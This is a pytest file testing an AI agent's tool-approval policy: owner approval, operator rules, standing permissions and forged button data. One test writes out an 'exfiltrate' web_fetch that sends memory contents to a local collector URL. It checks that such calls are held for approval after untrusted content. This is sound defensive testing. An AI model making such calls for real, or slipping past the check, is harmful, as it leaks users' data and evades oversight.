"""The approval policy (core/approvals.py): the defaults a careful owner would choose, the
operator's rules over them, standing permissions, and the question after untrusted content."""

from __future__ import annotations

from typing import Any

import pytest

from nanobot_lambda.core.approvals import (
    ApprovalPolicy,
    Call,
    RulesError,
    TurnFacts,
    callback_data,
    hosts_named,
    parse_callback,
    parse_rules,
)
from nanobot_lambda.settings import ApprovalSettings

OWNER = 42
ADA = 111111111
GROUP = -1001234567890


def never(action: str) -> bool:
    return False


def rule(
    call: Call, chat: int = OWNER, *, untrusted: bool = False, hosts: str = "", rules: str = ""
) -> tuple[str, str, int | None]:
    facts = TurnFacts(chat, OWNER, untrusted, hosts_named([hosts]))
    ruling = ApprovalPolicy(parse_rules(rules)).rule(call, facts, never)
    return ruling.policy, ruling.reason, ruling.approver


def mcp(tool: str, read_only: bool = False, **arguments: Any) -> Call:
    return Call(f"github_{tool}", arguments, server="github", remote_tool=tool, read_only=read_only)


def test_an_ordinary_turn_never_asks() -> None:
    for call in (
        Call("read_file", {"path": "memory/MEMORY.md"}),
        Call("write_file", {"path": "notes/today.md", "content": "x"}),
        Call("web_fetch", {"url": "https://example.com/news?page=2"}),
        Call("message", {"content": "hi"}),
        Call("message", {"content": "hi", "chat_id": OWNER}),
        Call("cron", {"action": "add", "message": "tea"}),
        mcp("search_issues", read_only=True, query="bug"),
    ):
        assert rule(call)[0] == "allow", call


def test_the_defaults_ask_the_owner_before_what_cannot_be_taken_back() -> None:
    assert rule(mcp("create_issue", title="x")) == ("ask", "mcp_write", OWNER)
    assert rule(Call("message", {"content": "hi", "chat_id": ADA})) == ("ask", "other_chat", OWNER)
    assert rule(Call("message", {"content": "hi", "chat_id": OWNER}), ADA)[0] == "allow"
    for path in ("SOUL.md", "AGENTS.md", "skills/tea/SKILL.md", "./TOOLS.md"):
        assert rule(Call("edit_file", {"path": path})) == ("ask", "shared_file", OWNER), path
    # In Ada's own chat an MCP tool is still the owner's to allow; in a group, everything is.
    assert rule(mcp("create_issue"), ADA) == ("ask", "mcp_write", OWNER)
    assert rule(mcp("create_issue"), GROUP) == ("ask", "mcp_write", OWNER)


def test_after_untrusted_content_data_leaving_for_a_new_host_asks() -> None:
    exfiltrate = Call("web_fetch", {"url": "http://127.0.0.1:9999/collect?memory=secret"})
    assert rule(exfiltrate) == ("allow", "", None)  # before anything untrusted came in
    assert rule(exfiltrate, untrusted=True) == ("ask", "untrusted_out", OWNER)
    # Ada's own turn: she decides for her own scope.
    assert rule(exfiltrate, ADA, untrusted=True) == ("ask", "untrusted_out", ADA)
    # A host the person named, or a bare host with nothing in its path, carries nothing new.
    named = "read http://127.0.0.1:9999/page please"
    assert rule(exfiltrate, untrusted=True, hosts=named)[0] == "allow"
    assert rule(Call("web_fetch", {"url": "https://other.example/"}), untrusted=True)[0] == "allow"
    # Reading tools and own-chat messages still run; an MCP write asks for this reason first.
    assert rule(Call("read_file", {"path": "memory/MEMORY.md"}), untrusted=True)[0] == "allow"
    assert rule(Call("message", {"content": "done"}), untrusted=True)[0] == "allow"
    assert rule(mcp("create_issue"), untrusted=True)[1] == "untrusted_out"


def test_the_operators_rules_win_the_most_specific_first() -> None:
    rules = "mcp:github=allow,mcp:github/delete_repo=deny,web_fetch=ask,message=deny"
    assert rule(mcp("create_issue"), rules=rules)[0] == "allow"
    assert rule(mcp("delete_repo"), rules=rules)[0] == "deny"
    assert rule(mcp("search", read_only=True), rules="mcp:github=ask")[0] == "ask"
    assert rule(Call("web_fetch", {"url": "https://example.com"}), rules=rules)[0] == "ask"
    assert rule(Call("message", {"content": "hi"}), rules=rules)[0] == "deny"
    # The operator's allow holds after untrusted content too: they said so for this tool.
    assert rule(mcp("create_issue"), untrusted=True, rules=rules)[0] == "allow"


def test_a_standing_permission_lifts_a_default_but_not_the_untrusted_question() -> None:
    policy = ApprovalPolicy()
    granted = {"mcp:github/create_issue"}
    call = mcp("create_issue")
    clean = TurnFacts(OWNER, OWNER)
    assert policy.rule(call, clean, granted.__contains__).policy == "allow"
    assert policy.rule(mcp("close_issue"), clean, granted.__contains__).policy == "ask"
    tainted = TurnFacts(OWNER, OWNER, untrusted=True)
    assert policy.rule(call, tainted, granted.__contains__).policy == "ask"


def test_without_a_known_owner_shared_things_have_no_approver() -> None:
    facts = TurnFacts(ADA, None)
    assert ApprovalPolicy().rule(mcp("create_issue"), facts, never).approver is None


def test_the_setting_takes_the_short_form_or_json_and_refuses_anything_else() -> None:
    short = "web_fetch=allow, mcp:github=ask,mcp:github/create_issue=allow"
    assert ApprovalSettings.model_validate({"APPROVALS": short}).approvals == {
        "web_fetch": "allow",
        "mcp:github": "ask",
        "mcp:github/create_issue": "allow",
    }
    assert ApprovalSettings.model_validate({"APPROVALS": '{"exec": "deny"}'}).approvals == {
        "exec": "deny"
    }
    assert ApprovalSettings.model_validate({}).approvals == {}
    assert ApprovalSettings.model_validate({}).approval_timeout_minutes == 60
    for bad in ("web_fetch=maybe", "web_fetch", "mcp:GitHub=allow", "[1]", "{"):
        with pytest.raises(RulesError):
            parse_rules(bad)


def test_button_data_names_the_approval_and_the_decision() -> None:
    data = callback_data("Zx9_-abcdEFGH1234", "a")
    assert len(data.encode()) <= 64
    assert parse_callback(data) == ("Zx9_-abcdEFGH1234", "always")
    assert parse_callback(callback_data("Zx9_-abcdEFGH1234", "o")) == ("Zx9_-abcdEFGH1234", "once")
    for forged in ("b0", "apv:short:o", "apv:Zx9_-abcdEFGH1234:x", "apv:Zx9 abcdEFGH1234:d", None):
        assert parse_callback(forged) is None


def test_a_shared_file_asks_only_where_it_may_be_written() -> None:
    """Another scope's file tools refuse the shared files anyway: nothing to ask there."""
    assert rule(Call("write_file", {"path": "SOUL.md"}), ADA)[0] == "allow"
    assert rule(Call("write_file", {"path": "SOUL.md"}), OWNER)[0] == "ask"
